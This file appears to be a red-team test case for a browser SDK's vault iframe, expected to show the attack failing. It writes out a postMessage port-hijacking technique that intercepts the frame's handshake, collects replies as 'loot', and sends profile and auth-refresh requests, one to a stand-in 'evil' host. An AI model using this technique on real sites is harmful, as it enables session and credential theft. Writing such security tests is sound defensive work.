// A real attacker: waits for the vault's frame to greet and hands it a port of their own before the SDK does.
export default {
  row: "frames",
  expected: [null, "loses"],
  before: (redteam) => {
    addEventListener(
      "message",
      (event) => {
        if (event.origin !== redteam.vault) return;
        event.stopImmediatePropagation();
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => redteam.loot(data);
        redteam.mine = port1;
        event.source.postMessage("strongroom:port", redteam.vault, [port2]);
      },
      true,
    );
  },
  after: async ({ api, evil, vault }) => {
    const { redteam } = globalThis;
    for (let i = 0; i < 60 && !redteam.mine; i++) await new Promise((resolve) => setTimeout(resolve, 50));
    let id = 0;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${vault}/auth/refresh`]) {
      redteam.mine?.postMessage([0, ++id, url, [], { method: "GET" }, true]);
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return redteam.mine !== undefined;
  },
};
